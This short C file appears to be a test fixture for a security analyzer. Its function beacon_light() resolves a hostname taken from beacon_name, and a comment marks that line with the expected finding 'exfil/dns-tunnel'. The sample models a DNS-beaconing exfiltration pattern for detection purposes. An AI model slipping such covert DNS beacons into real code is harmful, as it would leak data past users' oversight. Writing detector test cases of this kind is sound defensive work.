#include "beacon.h"

#include <netdb.h>

void beacon_light(void) {
    // report@+1: exfil/dns-tunnel
    struct hostent *entry = gethostbyname(beacon_name);
    if (entry)
        beacon_name[0] = 0;
}
